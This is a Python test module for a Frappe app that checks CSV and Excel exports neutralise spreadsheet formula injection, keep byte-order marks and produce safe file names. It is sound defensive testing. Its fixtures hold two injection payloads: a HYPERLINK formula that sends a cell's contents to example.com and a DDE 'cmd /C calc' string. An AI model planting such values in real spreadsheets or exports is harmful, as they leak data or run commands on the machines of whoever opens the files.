"""Exported tables contain no formulas, keep all digits and have the right name, in every office program."""

import csv
import io
import json
from collections.abc import Iterator
from urllib.parse import unquote

import frappe
import requests
from frappe.email.doctype.auto_email_report.auto_email_report import AutoEmailReport
from frappe.utils import get_url
from frappe.utils.csvutils import read_csv_content
from openpyxl import load_workbook

from fanpin_app.privacy.spreadsheets import (
	BOM,
)
from fanpin_app.tests.http.test_rest import make_token
from fanpin_app.tests.support.base import TestCase
from fanpin_app.tests.support.builders import TOWN, VILLAGE, make_household, make_officer, member
from fanpin_app.tests.support.committed_data import CommittedTestCase
from fanpin_app.tests.unit.test_spreadsheets import is_formula

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点这里")'
SIGNED = "@SUM(1+1)*cmd|' /C calc'!A0"

TITLE = '名单 "一/二"\r\nX: 100% 家庭'
LIST = "/api/method/frappe.desk.reportview.export_query"
REPORT = "/api/method/frappe.desk.query_report.export_query"
DATA_EXPORT = "/api/method/frappe.core.doctype.data_export.exporter.export_data"
DATA_IMPORT = "/api/method/frappe.core.doctype.data_import.data_import.download_template"


def formulas_of_workbook(content: bytes) -> list[str]:
	sheet = load_workbook(io.BytesIO(content)).active
	return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def rows_of_csv(content: bytes) -> list[list[str]]:
	return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


class TestExportsOverHttp(CommittedTestCase):
	@classmethod
	def make_data(cls) -> None:
		cls.household = make_household(
			VILLAGE, address=FORMULA, group_name=SIGNED, members=[member(member_name=FORMULA)]
		)
		cls.user = make_officer("Town Officer", TOWN)
		# Frappe permits its document exporters only to System Managers.
		frappe.get_doc("User", cls.user).add_roles("System Manager")
		cls.token = make_token(cls.user)

	def export(self, path: str, **arguments) -> requests.Response:
		headers = {"Authorization": self.token, "Accept": "application/json"}
		answer = requests.post(get_url(path), headers=headers, data=arguments, timeout=60)
		self.assertEqual(answer.status_code, 200, answer.text[-500:])
		return answer

	def lists(self, kind: str) -> requests.Response:
		fields = ["`tabHousehold`.`name`", "`tabHousehold`.`address`", "`tabHousehold`.`group_name`"]
		return self.export(
			LIST, doctype="Household", fields=json.dumps(fields), file_format_type=kind, title=TITLE
		)

	def exports_with_the_address(self) -> Iterator[tuple[str, str, requests.Response]]:
		"""Every export of documents with the address: content and format."""
		columns = json.dumps({"Household": ["name", "address", "group_name"]})
		for kind in ("CSV", "Excel"):
			yield "list", kind, self.lists(kind)
			yield (
				"data import",
				kind,
				self.export(
					DATA_IMPORT,
					doctype="Household",
					export_fields=columns,
					export_records="all",
					file_type=kind,
				),
			)
			yield (
				"data export",
				kind,
				self.export(
					DATA_EXPORT, doctype="Household", with_data="1", select_columns=columns, file_type=kind
				),
			)

	def test_no_export_of_documents_holds_a_formula(self):
		for way, kind, answer in self.exports_with_the_address():
			with self.subTest(way=way, kind=kind):
				if kind == "CSV":
					self.assertTrue(answer.content.startswith(BOM.encode()))
					rows = rows_of_csv(answer.content)
					self.assertIn(f"'{FORMULA}", [field for row in rows for field in row])
					self.assertEqual([field for row in rows for field in row if is_formula(field)], [])
				else:
					self.assertEqual(formulas_of_workbook(answer.content), [])
					cells = [c for row in load_workbook(io.BytesIO(answer.content)).active for c in row]
					[address] = [cell for cell in cells if cell.value == FORMULA]
					self.assertEqual(address.number_format, "@")

	def test_no_report_of_ours_holds_a_formula(self):
		ours = frappe.get_all("Module Def", filters={"app_name": "fanpin_app"}, pluck="name")
		reports = frappe.get_all("Report", filters={"module": ("in", ours)}, pluck="name")
		self.assertGreater(len(reports), 10)
		exported = 0
		for report in reports:
			for kind in ("CSV", "Excel"):
				headers = {"Authorization": self.token, "Accept": "application/json"}
				arguments = {
					"report_name": report,
					"file_format_type": kind,
					"filters": "{}",
					"visible_idx": "[]",
				}
				answer = requests.post(get_url(REPORT), headers=headers, data=arguments, timeout=60)
				if answer.status_code == 403:
					continue
				with self.subTest(report=report, kind=kind):
					self.assertEqual(answer.status_code, 200, answer.text[-500:])
					exported += 1
					if kind == "CSV":
						self.assertTrue(answer.content.startswith(BOM.encode()))
						fields = [field for row in rows_of_csv(answer.content) for field in row]
						self.assertEqual(list(filter(is_formula, fields)), [])
					else:
						self.assertEqual(formulas_of_workbook(answer.content), [])
		self.assertGreater(exported, 10)

	def test_the_name_of_an_export_may_have_any_characters(self):
		for kind, ending in (("CSV", "csv"), ("Excel", "xlsx")):
			header = self.lists(kind).headers["Content-Disposition"]
			kind_of_header, plain, encoded = header.split("; ")
			self.assertEqual((kind_of_header, plain), ("attachment", f'filename="download.{ending}"'))
			self.assertEqual(
				unquote(encoded.removeprefix("filename*=UTF-8''")), f"名单 _一_二___X_ 100% 家庭.{ending}"
			)

	def test_a_template_with_its_byte_order_mark_is_read_back(self):
		columns = json.dumps({"Household": ["name", "address"]})
		answer = self.export(
			DATA_IMPORT, doctype="Household", export_fields=columns, export_records="all", file_type="CSV"
		)
		for content in (answer.content, answer.content.decode()):
			self.assertEqual(read_csv_content(content)[0][0], "ID")


class TestReportsByMail(TestCase):
	def test_a_report_by_mail_holds_no_formula(self):
		make_household(VILLAGE, address=FORMULA)
		for kind in ("CSV", "XLSX"):
			report = frappe.get_doc(
				doctype="Auto Email Report",
				report="Households and People",
				user="Administrator",
				format=kind,
				enabled=1,
				filters="{}",
			)
			self.assertIsInstance(report, AutoEmailReport)
			content = report.get_report_content()
			if kind == "CSV":
				self.assertTrue(content.startswith(BOM))
				self.assertEqual(
					[f for row in rows_of_csv(content.encode()) for f in row if is_formula(f)], []
				)
			else:
				self.assertEqual(formulas_of_workbook(content), [])
